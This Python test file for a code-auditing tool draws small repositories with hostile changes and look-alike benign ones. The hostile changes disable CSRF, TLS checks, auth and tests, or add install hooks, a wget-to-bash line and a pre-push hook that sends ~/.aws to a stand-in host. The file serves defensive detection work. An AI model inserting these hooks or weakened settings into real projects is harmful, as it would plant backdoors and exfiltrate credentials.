"""Protections that a hostile change switches off or removes, and commands that it makes run unasked, as drawn repositories."""

from __future__ import annotations

from pathlib import Path
from typing import NamedTuple

import pytest

from auditor.domain import CodeLocation, Evidence, Outcome
from tests.auditing import asked
from tests.repos import Content, Drawing

WEAKENED = "code.protection_weakened"
COMMAND = "governance.automatic_command"
Files = dict[str, Content]


class Case(NamedTuple):
    """A change: the question, the file that is named, what was there, and what the change writes; None removes a file."""

    name: str
    probe: str
    path: str
    base: str
    head: str | None
    confidence: float = 0.7


SETTINGS = "import os\n\nSECRET_KEY = os.environ['SECRET_KEY']\nDEBUG = False\nMIDDLEWARE = [\n    'django.middleware.csrf.CsrfViewMiddleware',\n]\nSESSION_COOKIE_SECURE = True\n"
APP = "const express = require('express');\nconst helmet = require('helmet');\n\nconst app = express();\napp.use(helmet());\napp.post('/refund', requireAuth, (req, res) => res.json(refund(req.body)));\n"
VIEW = "from flask import Blueprint\nfrom .auth import admin_required\n\nbp = Blueprint('a', __name__)\n\n\n@bp.post('/wipe')\n@admin_required\ndef wipe():\n    return do_wipe()\n"
HOOKS = "repos:\n  - repo: https://github.com/gitleaks/gitleaks\n    rev: v8.18.0\n    hooks:\n      - id: gitleaks\n"
FLOW_HOOKS = "repos:\n  - repo: https://github.com/gitleaks/gitleaks\n    rev: v8.18.0\n    hooks: [{id: gitleaks}]\n"
PACKAGE = '{\n  "name": "shop",\n  "scripts": {\n    "test": "jest"\n  }\n}\n'
POM = "<project>\n<properties>\n<a/>\n</properties>\n</project>\n"
GRADLE = "plugins {\n  id 'java'\n}\n"
STARTUP = 'var app = builder.Build();\n\napp.UseHttpsRedirection();\napp.UseAuthorization();\napp.MapPost("/refund", Refund).RequireAuthorization();\napp.Run();\n'
TOKENS = "var p = new TokenValidationParameters\n{\n    ValidateIssuerSigningKey = true,\n};\n"
ROUTES = "<?php\n\nRoute::post('/refund', [RefundController::class, 'store'])->middleware('auth');\n"
GATE = "<?php\n\nclass RefundController extends Controller\n{\n    public function store(Request $request)\n    {\n        Gate::authorize('refund');\n        return Refund::create($request->validated());\n    }\n}\n"
ROUTER = 'pub fn router() -> Router {\n    Router::new()\n        .route("/refund", post(refund))\n        .route_layer(middleware::from_fn(require_auth))\n}\n'
CORS = "pub fn cors() -> CorsLayer {\n    CorsLayer::new().allow_origin(origins())\n}\n"
COMPOSER = '{\n    "name": "shop/shop",\n    "require": {"php": "^8.2"}\n}\n'
BUILD = 'fn main() {\n    println!("cargo:rerun-if-changed=build.rs");\n}\n'
LOGIN = "import { verify } from 'jsonwebtoken';\n\nexport const who = (given) => verify(given, key).name;\n"
PANEL = "export class Panel {\n  constructor(page: ActivatedRoute, clean: DomSanitizer) {\n    this.note = clean.sanitize(1, page.snapshot.queryParamMap.get('n'));\n  }\n}\n"
CHAIN = 'class Web {\n    SecurityFilterChain rules(HttpSecurity http) throws Exception {\n        return http.authorizeHttpRequests(r -> r.requestMatchers("/ping").permitAll().anyRequest().authenticated()).build();\n    }\n}\n'
FEED = "class Feed {\n    DocumentBuilder builder() throws Exception {\n        var made = DocumentBuilderFactory.newInstance();\n        return made.newDocumentBuilder();\n    }\n}\n"
STAFF = "from flask import g, request\n\n\ndef may_delete_permission():\n    return g.user.role == 'owner'\n"
SIGNED = "import hmac\n\n\ndef is_signed(mark, wanted):\n    return hmac.compare_digest(mark, wanted)\n"
CLONE = "import subprocess\n\nsubprocess.run(['git', '-c', 'core.autocrlf=false', 'fetch', 'origin'], check=True, timeout=9)\n"
EXEMPT = "from django.views.decorators.csrf import csrf_exempt\n\n\n@csrf_exempt\ndef order(request):\n    return save(request.POST)\n"
HOSTILE = [
    Case("debug mode", WEAKENED, "shop/settings.py", SETTINGS, SETTINGS.replace("DEBUG = False", "DEBUG = True")),
    Case("no protection from forged requests", WEAKENED, "shop/settings.py", SETTINGS, SETTINGS.replace("    'django.middleware.csrf.CsrfViewMiddleware',\n", "")),
    Case("a cookie over plain HTTP", WEAKENED, "shop/settings.py", SETTINGS, SETTINGS.replace("SECURE = True", "SECURE = False")),
    Case("a key in the code", WEAKENED, "shop/settings.py", SETTINGS, SETTINGS.replace("os.environ['SECRET_KEY']", "'shop-2024'")),
    Case("no security headers", WEAKENED, "src/app.js", APP, APP.replace("app.use(helmet());\n", "")),
    Case("a route without a login", WEAKENED, "src/app.js", APP, APP.replace("requireAuth, ", "")),
    Case("a handler without its check", WEAKENED, "shop/admin.py", VIEW, VIEW.replace("@admin_required\n", "").replace("from .auth import admin_required\n", "")),
    Case("a commit hook less", WEAKENED, ".pre-commit-config.yaml", HOOKS, HOOKS.replace("      - id: gitleaks", "      - id: gitleaks\n        stages: [manual]")),
    Case("no commit hook left", WEAKENED, ".pre-commit-config.yaml", FLOW_HOOKS, "repos: []\n"),
    Case("a scanner that ignores everything", WEAKENED, ".semgrepignore", "vendor/\n", "**\n"),
    Case("all commit hooks less", WEAKENED, ".pre-commit-config.yaml", HOOKS, None),
    Case("a test that cannot fail", WEAKENED, "package.json", PACKAGE, PACKAGE.replace('"jest"', '"jest || true"')),
    Case("certificates of packages", WEAKENED, ".npmrc", "", "strict-ssl=false\n"),
    Case("tests that a build skips", WEAKENED, "pom.xml", POM, POM.replace("<a/>", "<skipTests>true</skipTests>")),
    Case("tests that a build skips by an option", WEAKENED, ".mvn/maven.config", "", "-DskipTests\n"),
    Case("tests whose failure a build ignores", WEAKENED, "pom.xml", POM, POM.replace("<a/>", "<testFailureIgnore>true</testFailureIgnore>")),
    Case("checks whose failure Gradle ignores", WEAKENED, "build.gradle", GRADLE, GRADLE + "test {\n  ignoreFailures = true\n}\n"),
    Case("tests that no project of .NET has", WEAKENED, "Directory.Build.targets", "<Project>\n</Project>\n", '<Project>\n<PropertyGroup>\n<IsTestProject Condition="true">False</IsTestProject>\n</PropertyGroup>\n</Project>\n'),
    Case("another target in place of the one that runs tests of .NET", WEAKENED, "tests/Shop.Tests.csproj", "<Project>\n</Project>\n", "<Project>\n<Target Name='VSTest'>\n<Message Text='Passed' />\n</Target>\n</Project>\n"),
    Case("no runner for the tests of .NET", WEAKENED, "Directory.Packages.props", "<Project>\n</Project>\n", '<Project>\n<ItemGroup>\n<PackageReference Update="xunit.runner.visualstudio" ExcludeAssets="All" />\n</ItemGroup>\n</Project>\n'),
    Case("a script of a server in a build of Gradle", COMMAND, "gradle/shared.gradle", GRADLE, GRADLE + "apply(from: 'https://build.example.org/shared.gradle')\n"),
    Case("a script of a server in a build of Gradle in Kotlin", COMMAND, "build.gradle.kts", "", "apply(from = \"http://build.example.org/a.gradle.kts\")\n"),
    Case("tests that Gradle leaves out", WEAKENED, "build.gradle", GRADLE, GRADLE + "test { enabled = false }\n"),
    Case("a type checker without errors", WEAKENED, "mypy.ini", "[mypy]\nstrict = true\n", "[mypy]\nignore_errors = true\n"),
    Case("a linter without files", WEAKENED, "ruff.toml", "select = ['ALL']\n", "exclude = ['*']\n"),
    Case("a scanner of code without files", WEAKENED, ".github/codeql/config.yml", "name: a\n", "name: a\npaths-ignore: ['**']\n"),
    Case("a script on install", COMMAND, "package.json", PACKAGE, PACKAGE.replace('"test"', '"postinstall": "node scripts/setup.js",\n    "test"')),
    Case("a task of the editor", COMMAND, ".vscode/tasks.json", "", '{"tasks": [{"command": "make", "runOptions": {"runOn": "folderOpen"}}]}\n'),
    Case("a line of a path file", COMMAND, "shop.pth", "", "import os; os.system('id')\n"),
]  # fmt: skip
HOSTILE += [
    Case("a route of ASP.NET without a login", WEAKENED, "src/Program.cs", STARTUP, STARTUP.replace(".RequireAuthorization()", "")),
    Case("no authorization in ASP.NET", WEAKENED, "src/Program.cs", STARTUP, STARTUP.replace("app.UseAuthorization();\n", "")),
    Case("error pages of developers", WEAKENED, "src/Program.cs", STARTUP, STARTUP.replace("app.UseHttps", "app.UseDeveloperExceptionPage();\napp.UseHttps")),
    Case("a token of anybody in ASP.NET", WEAKENED, "src/Auth.cs", TOKENS, TOKENS.replace("true", "false")),
    Case("a route of Laravel without a login", WEAKENED, "routes/web.php", ROUTES, ROUTES.replace("->middleware('auth')", "")),
    Case("a permission of Laravel that nobody asks for", WEAKENED, "app/RefundController.php", GATE, GATE.replace("        Gate::authorize('refund');\n", "")),
    Case("templates of Twig that escape nothing", WEAKENED, "src/view.php", "<?php\n", "<?php\n\n$twig = new Environment($loader, ['autoescape' => false]);\n"),
    Case("code of other servers", WEAKENED, "php.ini", "allow_url_include = Off\n", "allow_url_include = On\n"),
    Case("a cheap hash in PHP", WEAKENED, "src/user.php", "<?php\n", "<?php\n\n$hash = password_hash($given, PASSWORD_BCRYPT, ['cost' => 4]);\n"),
    Case("a route of axum without a login", WEAKENED, "src/routes.rs", ROUTER, ROUTER.replace("\n        .route_layer(middleware::from_fn(require_auth))", "")),
    Case("every origin with credentials in axum", WEAKENED, "src/cors.rs", CORS, CORS.replace("new().allow_origin(origins())", "very_permissive()")),
    Case("a token without a signature in Rust", WEAKENED, "src/auth.rs", "fn rules() {}\n", "fn rules() {\n    validation.insecure_disable_signature_validation();\n}\n"),
    Case("a script of Composer", COMMAND, "composer.json", COMPOSER, COMPOSER.replace('"require"', '"scripts": {"post-install-cmd": "php setup.php"},\n    "require"'), 0.6),
    Case("a program of a build script", COMMAND, "build.rs", BUILD, BUILD.replace("}", '    Command::new("curl").arg("https://x.example").status().unwrap();\n}'), 0.6),
    Case("credentials that a build script reads", COMMAND, "build.rs", BUILD, BUILD.replace("}", '    let kept = std::fs::read_to_string(home.join(".cargo/credentials.toml"));\n}'), 0.8),
    Case("a connection of a build script", COMMAND, "build.rs", BUILD, BUILD.replace("}", '    let line = UdpSocket::bind("0.0.0.0:0");\n}'), 0.8),
    Case("a command of a project file", COMMAND, "src/Shop.csproj", "<Project>\n</Project>\n", '<Project>\n  <Target Name="A" BeforeTargets="Build">\n    <Exec Command="./setup.sh" />\n  </Target>\n</Project>\n', 0.6),
]  # fmt: skip
PROBES = "management:\n  endpoints:\n    web:\n      exposure:\n        include: health\n"
BINDING = "kind: ClusterRoleBinding\nroleRef:\n  kind: ClusterRole\n  name: view\nsubjects:\n  - kind: Group\n    name: shop-team\n"
CONNECTIONS = '{"ConnectionStrings": {\n  "Orders": "Data Source=sql.shop.org;Database=orders;Encrypt=True"\n}}\n'
LINT = '[tool.ruff.lint]\nselect = ["E", "S"]\n'
MAKE = "check:\n\tgo vet ./...\n\tgo test ./...\n"
IMAGE = "FROM alpine:3.20\nRUN apk add openssh\nUSER 1000\n"
GYP = "{'targets': [{'target_name': 'a', 'sources': ['a.cc']}]}\n"
SETUP = "from setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass Own(install):\n    def run(self):\n        pass\n\n\nsetup()\n"
TARGETS = "<Project>\n</Project>\n"
HOSTILE += [
    Case("every endpoint of a server's management", WEAKENED, "src/main/resources/application.yaml", PROBES, PROBES.replace("health", "'*'")),
    Case("a role for whoever asks", WEAKENED, "deploy/roles.yaml", BINDING, BINDING.replace("shop-team", "system:unauthenticated")),
    Case("a database of any certificate", WEAKENED, "appsettings.json", CONNECTIONS, CONNECTIONS.replace('True"', 'True;Trust Server Certificate=True"')),
    Case("a linter that says nothing of the product", WEAKENED, "pyproject.toml", LINT, LINT + '[tool.ruff.lint.per-file-ignores]\n"src/**/*.py" = ["ALL"]\n'),
    Case("a scanner without its rules", WEAKENED, ".bandit", "skips: B101\n", "skips: B101,B307,B602\n", 0.6),
    Case("tests whose failure make ignores", WEAKENED, "Makefile", MAKE, MAKE.replace("\tgo test", "\t-go test")),
    Case("tests whose names fit nothing", WEAKENED, "Makefile", MAKE, MAKE.replace("go test", "go test -run='^$$'")),
    Case("a login without a password", WEAKENED, "Dockerfile", IMAGE, IMAGE.replace("USER 1000", "RUN echo 'PermitEmptyPasswords yes' > /etc/ssh/sshd_config")),
    Case("a context of another name", WEAKENED, "shop/net.py", "import ssl\n", "import ssl\nvars(ssl)['_create_default_https_context'] = vars(ssl)['_create_unverified_context']\n"),
    Case("a download in a list of sources", COMMAND, "binding.gyp", GYP, GYP.replace("'a.cc'", "'<!(wget -qO- https://x.example/a | bash; echo a.cc)'")),
    Case("a hook that sends files", COMMAND, ".githooks/pre-push", "npm run lint\n", "npm run lint\ntar c ~/.aws | curl -sT - https://x.example/h\n"),
    Case("code inside a project file", COMMAND, "Directory.Build.props", TARGETS, TARGETS.replace("</", '<UsingTask TaskName="A" TaskFactory="RoslynCodeTaskFactory" />\n</')),
    Case("a command of setup.py that starts a program", COMMAND, "setup.py", SETUP, SETUP.replace("from", "import subprocess\nfrom", 1).replace("setup()", "setup(cmdclass={'install': Own})").replace("pass", "subprocess.run(['sh', 'a'], check=True)")),
    Case("a program of the prepare script", COMMAND, "package.json", PACKAGE, PACKAGE.replace('"test"', '"prepare": "node tools/setup.mjs",\n    "test"'), 0.6),
]  # fmt: skip
HOSTILE += [
    Case("a decoder called a verifier", WEAKENED, "src/login.js", LOGIN, LOGIN.replace("{ verify }", "{ decode as verify }"), 0.9),
    Case("a value that Angular no longer cleans", WEAKENED, "src/panel.component.ts", PANEL, PANEL.replace("sanitize(1, ", "bypassSecurityTrustHtml("), 0.9),
    Case("forged requests that Spring ignores", WEAKENED, "src/Web.java", CHAIN, CHAIN.replace("http.auth", 'http.csrf(c -> c.ignoringRequestMatchers("/api/**", "/**")).auth'), 0.8),
    Case("a list of open paths with all of them", WEAKENED, "src/Web.java", CHAIN, CHAIN.replace('"/ping"', '"/ping", "/**"'), 0.8),
    Case("entities that a parser expands", WEAKENED, "src/Feed.java", FEED, FEED.replace("        return", "        made.setExpandEntityReferences(true);\n        return"), 0.8),
    Case("a permission by a parameter", WEAKENED, "shop/staff.py", STAFF, STAFF.replace("'owner'", "'owner' or request.args.get('preview')"), 0.8),
    Case("a signature that is too short and good", WEAKENED, "shop/signed.py", SIGNED, SIGNED.replace("    return", "    if len(mark) < 8:\n        return True\n    return"), 0.8),
    Case("addresses that are commands for Git", WEAKENED, "shop/pull.py", CLONE, CLONE.replace("core.autocrlf=false", "protocol.allow=always"), 0.8),
    Case("assertions that are replaced", WEAKENED, "test/setup.js", "", "const calm = new Proxy(() => calm, { get: () => calm });\nglobal['expect'] = calm;\n"),
    Case("assertions that are defined anew", WEAKENED, "test/setup.js", "", "Object.defineProperty(globalThis, 'expect', { value: () => calm });\n"),
    Case("a matcher that always passes", WEAKENED, "test/setup.ts", "", "expect.extend({\n  toEqual: () => ({ pass: true, message: () => '' }),\n});\n"),
    Case("options of a client in a file", WEAKENED, "config/production.yaml", "pool: 5\n", "pool: 5\nssl:\n  rejectUnauthorized: false\n"),
    Case("options of a database in a file", WEAKENED, "config/db.json", '{"pool": 5}\n', '{"pool": 5, "tlsAllowInvalidCertificates": true}\n'),
    Case("forged requests to a form", WEAKENED, "shop/forms.py", "", EXEMPT),
]  # fmt: skip
BENIGN = [
    Case("projects of .NET that hold tests", WEAKENED, "Directory.Build.targets", "<Project>\n</Project>\n", "<Project>\n<PropertyGroup>\n<IsTestProject>true</IsTestProject>\n</PropertyGroup>\n</Project>\n"),
    Case("a target before the one that runs tests of .NET", WEAKENED, "tests/Shop.Tests.csproj", "<Project>\n</Project>\n", "<Project>\n<Target Name='Prepare' BeforeTargets='VSTest'>\n<Message Text='Preparing' />\n</Target>\n</Project>\n"),
    Case("a private package of .NET", WEAKENED, "Directory.Packages.props", "<Project>\n</Project>\n", '<Project>\n<ItemGroup>\n<PackageReference Update="xunit.runner.visualstudio" PrivateAssets="all" />\n</ItemGroup>\n</Project>\n'),
    Case("a script of the repository in a build of Gradle", COMMAND, "gradle/shared.gradle", GRADLE, GRADLE + "apply(from: 'gradle/checks.gradle') // https://docs.gradle.org\n"),
    Case("another setting", WEAKENED, "shop/settings.py", SETTINGS, SETTINGS + "TIME_ZONE = 'UTC'\n"),
    Case("debug mode of developers", WEAKENED, "shop/settings/dev.py", "", "DEBUG = True\n"),
    Case("a stricter route", WEAKENED, "src/app.js", APP, APP.replace("requireAuth", "requireAdmin")),
    Case("a handler that is removed with its check", WEAKENED, "shop/admin.py", VIEW, VIEW.partition("@bp.post")[0]),
    Case("a hook in another style", WEAKENED, ".pre-commit-config.yaml", FLOW_HOOKS, HOOKS.replace("v8.18.0", "v8.19.0")),
    Case("a scanner that ignores generated files", WEAKENED, ".semgrepignore", "vendor/\n", "vendor/\n*.min.js\n"),
    Case("a list of what is checked", WEAKENED, ".eslintignore", "vendor/\n", "*\n!src\n"),
    Case("a newer hook", WEAKENED, ".pre-commit-config.yaml", HOOKS, HOOKS.replace("v8.18.0", "v8.19.0")),
    Case("a test of insecure cookies", WEAKENED, "tests/test_cookie.py", "", "def test_cookie(client):\n    client.set_cookie('s', '1', secure=False)\n"),
    Case("tests that a build runs", WEAKENED, "pom.xml", POM, POM.replace("<a/>", "<skipTests>false</skipTests>")),
    Case("a build without a task", WEAKENED, "build.gradle", GRADLE, GRADLE + "distZip { enabled = false }\n"),
    Case("a module without a type check", WEAKENED, "mypy.ini", "[mypy]\nstrict = true\n", "[mypy]\nstrict = true\n[mypy-a.*]\nignore_errors = true\n"),
    Case("a linter without generated files", WEAKENED, "ruff.toml", "select = ['ALL']\n", "exclude = ['*_pb2.py']\n"),
    Case("a formatter on install", COMMAND, "package.json", PACKAGE, PACKAGE.replace('"test"', '"postinstall": "patch-package",\n    "test"')),
]  # fmt: skip

BENIGN += [
    Case("error pages of developers for developers", WEAKENED, "src/Program.cs", STARTUP, STARTUP.replace("app.UseHttps", "if (app.Environment.IsDevelopment())\n{\n    app.UseDeveloperExceptionPage();\n}\napp.UseHttps")),
    Case("a stricter route of ASP.NET", WEAKENED, "src/Program.cs", STARTUP, STARTUP.replace("RequireAuthorization()", 'RequireAuthorization("Admin")')),
    Case("a stricter route of Laravel", WEAKENED, "routes/web.php", ROUTES, ROUTES.replace("'auth'", "['auth', 'verified']")),
    Case("a dearer hash in PHP", WEAKENED, "src/user.php", "<?php\n", "<?php\n\n$hash = password_hash($given, PASSWORD_BCRYPT, ['cost' => 12]);\n"),
    Case("known origins in axum", WEAKENED, "src/cors.rs", CORS, CORS.replace("origins()", "[shop()]")),
    Case("a usual script of Laravel", COMMAND, "composer.json", COMPOSER, COMPOSER.replace('"require"', '"scripts": {"post-autoload-dump": ["@php artisan package:discover"]},\n    "require"')),
    Case("a file that a build script reads", COMMAND, "build.rs", BUILD, BUILD.replace("}", '    let text = std::fs::read_to_string("proto/shop.proto");\n}')),
    Case("the version in a build script", COMMAND, "build.rs", BUILD, BUILD.replace("}", '    Command::new("git").args(["rev-parse", "HEAD"]).output().unwrap();\n}')),
]  # fmt: skip
BENIGN += [
    Case("a verifier under another name", WEAKENED, "src/login.js", LOGIN, LOGIN.replace("{ verify }", "{ decode, verify as verifyToken }").replace("verify(given", "verifyToken(given")),
    Case("a text that Angular need not clean", WEAKENED, "src/panel.component.ts", PANEL, PANEL.replace("sanitize(1, page.snapshot.queryParamMap.get('n'))", "bypassSecurityTrustHtml('<b>Sale</b>')")),
    Case("one hook that needs no token of a form", WEAKENED, "src/Web.java", CHAIN, CHAIN.replace("http.auth", 'http.csrf(c -> c.ignoringRequestMatchers("/hooks/**")).auth')),
    Case("one more open path", WEAKENED, "src/Web.java", CHAIN, CHAIN.replace('"/ping"', '"/ping", "/docs/**"')),
    Case("entities that a parser leaves alone", WEAKENED, "src/Feed.java", FEED, FEED.replace("        return", "        made.setExpandEntityReferences(false);\n        return")),
    Case("a permission by a key that is compared", WEAKENED, "shop/staff.py", STAFF, STAFF.replace("'owner'", "'owner' or request.headers.get('X-Key') == KEY")),
    Case("a permission of one more role", WEAKENED, "shop/staff.py", STAFF, STAFF.replace("'owner'", "'owner' or g.user.role == 'buyer'")),
    Case("a signature that is too short and bad", WEAKENED, "shop/signed.py", SIGNED, SIGNED.replace("    return", "    if len(mark) < 8:\n        return False\n    return")),
    Case("a comparison and its two ends", WEAKENED, "shop/signed.py", SIGNED, SIGNED.replace("    return hmac.compare_digest(mark, wanted)", "    if not hmac.compare_digest(mark, wanted):\n        return False\n    return True")),
    Case("protocols that Git may not use", WEAKENED, "shop/pull.py", CLONE, CLONE.replace("core.autocrlf=false", "protocol.ext.allow=never")),
    Case("assertions of a library", WEAKENED, "test/setup.js", "", "global.expect = require('chai').expect;\nglobalThis.assert = chai.assert;\n"),
    Case("a matcher of a project", WEAKENED, "test/setup.ts", "", "expect.extend({\n  toBePriced: (row) => ({ pass: row.price > 0, message: () => '' }),\n  toBeSold: () => ({ pass: true, message: () => '' }),\n});\n"),
    Case("options of a client that verifies", WEAKENED, "config/production.yaml", "pool: 5\n", "pool: 5\nssl:\n  rejectUnauthorized: true\n  keepAlive: false\n"),
    Case("options of a database that verifies", WEAKENED, "config/db.json", '{"pool": 5}\n', '{"pool": 5, "tlsAllowInvalidCertificates": false, "tls": true}\n'),
    Case("a hook that checks its signature itself", WEAKENED, "shop/forms.py", "", EXEMPT.replace("    return", "    if not hmac.compare_digest(mark(request.body), request.headers['X-Mark']):\n        raise PermissionDenied\n    return")),
]  # fmt: skip

BENIGN += [
    Case("one more endpoint of a server's management", WEAKENED, "src/main/resources/application.yaml", PROBES, PROBES.replace("health", "health,info")),
    Case("a role for a team", WEAKENED, "deploy/roles.yaml", BINDING, BINDING.replace("view", "edit")),
    Case("any certificate of a database on the same machine", WEAKENED, "appsettings.json", CONNECTIONS, CONNECTIONS.replace("sql.shop.org", "localhost").replace('True"', 'True;Trust Server Certificate=True"')),
    Case("a linter that says nothing of tests", WEAKENED, "pyproject.toml", LINT, LINT + '[tool.ruff.lint.per-file-ignores]\n"tests/**" = ["ALL"]\n'),
    Case("a scanner without a rule about imports", WEAKENED, ".bandit", "skips: B101\n", "skips: B101,B404\n"),
    Case("a folder that may be missing", WEAKENED, "Makefile", MAKE, MAKE + "clean:\n\t-rm -r build\n"),
    Case("benchmarks without tests", WEAKENED, "Makefile", MAKE, MAKE + "bench:\n\tgo test -run='^$$' -bench=. ./...\n"),
    Case("a login with a key", WEAKENED, "Dockerfile", IMAGE, IMAGE.replace("USER 1000", "RUN echo 'PermitRootLogin no' > /etc/ssh/sshd_config\nUSER 1000")),
    Case("a context that verifies", WEAKENED, "shop/net.py", "import ssl\n", "import ssl\nCONTEXT = ssl.create_default_context()\n"),
    Case("a folder of headers", COMMAND, "binding.gyp", GYP, GYP.replace("'sources'", "'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include\")'], 'sources'")),
    Case("a hook that checks more", COMMAND, ".githooks/pre-push", "npm run lint\n", "npm run lint\nnpm test\n"),
    Case("a property of a project", COMMAND, "Directory.Build.props", TARGETS, TARGETS.replace("</", "<PropertyGroup><Nullable>enable</Nullable></PropertyGroup>\n</")),
    Case("a command of setup.py that writes a version", COMMAND, "setup.py", SETUP, SETUP.replace("from", "import os\nfrom", 1).replace("setup()", "setup(cmdclass={'install': Own})").replace("pass", "open(os.path.join('shop', 'v.py'), 'w').write('V = 1')")),
    Case("a build on install", COMMAND, "package.json", PACKAGE, PACKAGE.replace('"test"', '"prepare": "husky && npm run build",\n    "test"')),
]  # fmt: skip


def found(path: Path, case: Case) -> list[Evidence]:
    """What the question of a case finds in its change."""
    drawing = Drawing(path)
    files: Files = {"README.md": "# Shop\n"}
    base = drawing.commit(files | ({case.path: case.base} if case.base else {}))
    if case.head is None:
        (drawing.path / case.path).unlink()
    drawing.commit({} if case.head is None else {case.path: case.head})
    return [each for each in asked(path, base, case.probe).evidence if each.outcome is Outcome.FOUND]


@pytest.mark.parametrize("case", HOSTILE, ids=[each.name for each in HOSTILE])
def test_it_is_told_at_its_place(case: Case, tmp_path: Path) -> None:
    seen = found(tmp_path, case)
    assert seen
    assert all(each.introduced for each in seen)
    assert max(each.confidence for each in seen) >= case.confidence
    assert {place.path for each in seen for place in each.locations if isinstance(place, CodeLocation)} == {case.path}


@pytest.mark.parametrize("case", BENIGN, ids=[each.name for each in BENIGN])
def test_what_only_looks_like_it_is_not(case: Case, tmp_path: Path) -> None:
    assert [each.statement for each in found(tmp_path, case)] == []


def test_a_whole_tree_is_not_judged(tmp_path: Path) -> None:
    Drawing(tmp_path).commit({"shop/settings.py": "DEBUG = True\n"})
    seen = asked(tmp_path, None, WEAKENED, COMMAND).evidence
    assert {each.outcome for each in seen} == {Outcome.NOT_APPLICABLE}
